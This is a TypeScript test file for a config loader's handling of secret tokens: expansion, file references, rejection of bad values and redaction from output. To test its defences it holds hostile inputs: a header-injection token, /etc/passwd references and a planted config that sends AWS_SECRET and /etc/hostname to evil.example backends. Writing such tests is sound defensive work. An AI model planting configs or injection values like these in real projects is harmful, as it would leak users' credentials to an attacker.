// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders are what is tested.
import { inspect } from 'node:util';
import { describe, expect, test } from 'vitest';
import { attempt, type Outcome, soundYaml } from './load.ts';

const withToken = (token: string) =>
  `${soundYaml}backends: { notes: { url: https://n.example, technical_token: "${token}" } }\n`;
const tokenOf = ({ config }: Outcome) => [...(config?.backends.values() ?? [])][0]?.technicalToken;

describe('a secret in the file', () => {
  test('may name a variable, alone or within text', async () => {
    const environment = { NOTES_TOKEN: 's3cret' };
    expect(tokenOf(await attempt({ yaml: withToken('${NOTES_TOKEN}'), environment }))?.reveal()).toBe(
      's3cret',
    );
    expect(tokenOf(await attempt({ yaml: withToken('a-${NOTES_TOKEN}-b'), environment }))?.reveal()).toBe(
      'a-s3cret-b',
    );
  });

  test('may hold a ${ that is meant', async () => {
    expect(tokenOf(await attempt({ yaml: withToken('$${x}') }))?.reveal()).toBe('${x}');
  });

  test('is not expanded twice: a value that looks like a variable or a file stays what it is', async () => {
    const environment = { ONE: '${TWO}', TWO: 'two', FILE: 'file:/etc/passwd' };
    expect(tokenOf(await attempt({ yaml: withToken('${ONE}'), environment }))?.reveal()).toBe('${TWO}');
    expect(tokenOf(await attempt({ yaml: withToken('${FILE}'), environment }))?.reveal()).toBe(
      'file:/etc/passwd',
    );
  });

  test('may name a file, counted from the config file, without its line end', async () => {
    const outcome = await attempt({
      yaml: withToken('file:token.txt'),
      files: { 'token.txt': 'from-file\n' },
    });
    expect(tokenOf(outcome)?.reveal()).toBe('from-file');
    expect(outcome.report.watched).toEqual([`${outcome.folder}/cortex.yaml`, `${outcome.folder}/token.txt`]);
  });

  test('that cannot be had is refused at its line, and its file is watched', async () => {
    const unset = await attempt({ yaml: withToken('${NOTES_TOKEN}'), environment: { NOTES_TOKEN: '' } });
    expect(unset.issues).toContain(
      'error cortex.yaml:4: backends.notes.technical_token: the environment variable NOTES_TOKEN is not set.',
    );
    const gone = await attempt({ yaml: withToken('file:token.txt') });
    expect(gone.issues).toContain(
      `error cortex.yaml:4: backends.notes.technical_token: ${gone.folder}/token.txt cannot be read (ENOENT).`,
    );
    expect(gone.report.watched).toContain(`${gone.folder}/token.txt`);
    const huge = await attempt({
      yaml: withToken('file:token.txt'),
      files: { 'token.txt': 'x'.repeat(70_000) },
    });
    expect(huge.issues.join()).toContain('token.txt is too large to be a secret');
  });

  const unusable: readonly (readonly [name: string, token: string, says: string])[] = [
    ['empty', '', 'is empty'],
    ['broken over lines, which would forge a header', 'a\\nX-Admin: 1', 'printable ASCII on one line'],
    ['too long', 'x'.repeat(16_385), 'longer than 16384 characters'],
  ];
  test.each(unusable)('that is %s is refused without being quoted', async (_name, token, says) => {
    const { issues } = await attempt({ yaml: withToken(token) });
    const line = issues.find((issue) => issue.includes('technical_token'));
    expect(line).toContain(`backends.notes.technical_token: the secret`);
    expect(line).toContain(says);
    expect(line).not.toContain('X-Admin');
  });

  test('is one text', async () => {
    const { issues } = await attempt({
      yaml: `${soundYaml}backends: { n: { url: https://n.example, technical_token: [a] } }`,
    });
    expect(issues.join('\n')).toContain('the secret must be one secret, not a list');
  });
});

describe('a secret in the environment', () => {
  test('may name a file, and no variable', async () => {
    const yaml = `${soundYaml}backends: { notes: { url: https://n.example } }\n`;
    const file = await attempt({
      yaml,
      environment: { CORTEX_TECHNICAL_TOKEN: 'file:t' },
      files: { t: 'abc' },
    });
    expect(tokenOf(file)?.reveal()).toBe('abc');
    const text = await attempt({
      yaml,
      environment: { CORTEX__BACKENDS__NOTES__TECHNICAL_TOKEN: '${HOME}' },
    });
    expect(tokenOf(text)?.reveal()).toBe('${HOME}');
  });
});

describe('a file that merely lies in the current folder', () => {
  // The attack: a checked-out folder brings a cortex.yaml whose backend is the attacker's, and whoever types
  // `cortex catalog` there would send it the secrets of his shell.
  const environment = { AWS_SECRET: 'aws-key', CORTEX_TECHNICAL_TOKEN: 'shell-token' };
  const yaml = `${soundYaml}backends:
  one: { url: https://evil.example, technical_token: "\${AWS_SECRET}" }
  two: { url: https://evil.example/2, technical_token: "file:/etc/hostname" }
  three: { url: https://evil.example/3 }
`;

  test('gets no secret of the user, whichever way it asks', async () => {
    const { config, issues, report } = await attempt({ yaml, environment, isNamed: false });
    const tokens = [...(config?.backends.values() ?? [])].map((backend) => backend.technicalToken);
    expect(tokens).toEqual([undefined, undefined, undefined]);
    expect(JSON.stringify(report)).not.toMatch(/aws-key|shell-token/);
    expect(report.watched).not.toContain('/etc/hostname');
    expect(issues.find((line) => line.includes('secrets were not read'))).toMatch(
      /To read them, add --config .*cortex\.yaml\.$/,
    );
  });

  test('is told to the user when a variable it names is not set', async () => {
    const { issues } = await attempt({ yaml: withToken('${NOT_SET}'), isNamed: false });
    expect(issues).toContain(
      'error cortex.yaml:4: backends.notes.technical_token: the environment variable NOT_SET is not set.',
    );
  });

  test('is trusted by serve, and by whoever names it', async () => {
    for (const trust of [{ isNamed: false, mayExpandSecrets: true }, { isNamed: true }]) {
      expect(tokenOf(await attempt({ yaml, environment, ...trust }))?.reveal()).toBe('aws-key');
    }
  });
});

describe('a secret', () => {
  test('shows in nothing that can be printed', async () => {
    const outcome = await attempt({
      yaml: withToken('${NOTES_TOKEN}'),
      environment: { NOTES_TOKEN: 's3cret' },
    });
    expect(tokenOf(outcome)?.reveal()).toBe('s3cret');
    const printed = [
      JSON.stringify(outcome.report),
      inspect(outcome, { depth: 20, showHidden: true }),
      String(tokenOf(outcome)),
      JSON.stringify([...(outcome.config?.backends ?? [])]),
    ].join();
    expect(printed).not.toContain('s3cret');
    expect(outcome.report.effective.find((setting) => setting.path.endsWith('technical_token'))?.value).toBe(
      '[secret]',
    );
  });
});
